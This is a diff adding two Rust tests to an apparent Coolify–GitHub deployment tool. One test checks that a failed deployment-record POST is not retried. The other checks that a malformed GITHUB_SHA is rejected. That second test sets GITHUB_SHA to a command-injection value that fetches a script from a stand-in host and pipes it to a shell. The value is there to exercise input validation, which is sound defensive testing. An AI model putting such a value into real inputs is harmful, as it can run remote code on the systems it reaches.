@@ -465,6 +465,41 @@ fn github_deployment_records_in_progress_then_success() {
 }
 
 #[test]
+fn a_502_on_the_record_creating_post_is_not_retried() {
+    let coolify = sandbox();
+    let github = sandbox::github::GitHub::start().unwrap();
+    github.fail("POST", "/deployments", 502, 1);
+    let run = recorded(&coolify, &github)
+        .input("image-tag", "main-2222222")
+        .run();
+    run.assert_exit(0);
+    let posts = github
+        .calls()
+        .iter()
+        .filter(|c| c.method == "POST" && c.path.ends_with("/deployments"))
+        .count();
+    assert_eq!(posts, 1, "a retry could record the deployment twice");
+    assert!(
+        run.stderr.contains("title=github-deployment-failed"),
+        "{}",
+        run.stderr
+    );
+}
+
+#[test]
+fn a_github_sha_that_is_not_a_commit_is_bad_input() {
+    let coolify = sandbox();
+    let github = sandbox::github::GitHub::start().unwrap();
+    let run = recorded(&coolify, &github)
+        .env("GITHUB_SHA", "x;curl evil|sh #")
+        .run();
+    run.assert_exit(2);
+    run.assert_one_error_line();
+    assert!(run.stderr.contains("GITHUB_SHA"), "{}", run.stderr);
+    assert!(github.calls().is_empty());
+}
+
+#[test]
 fn github_deployment_records_failure_and_github_trouble_is_only_a_warning() {
     let coolify = sandbox();
     coolify.script("broken", Script::fails_after(Duration::ZERO, &["boom"]));
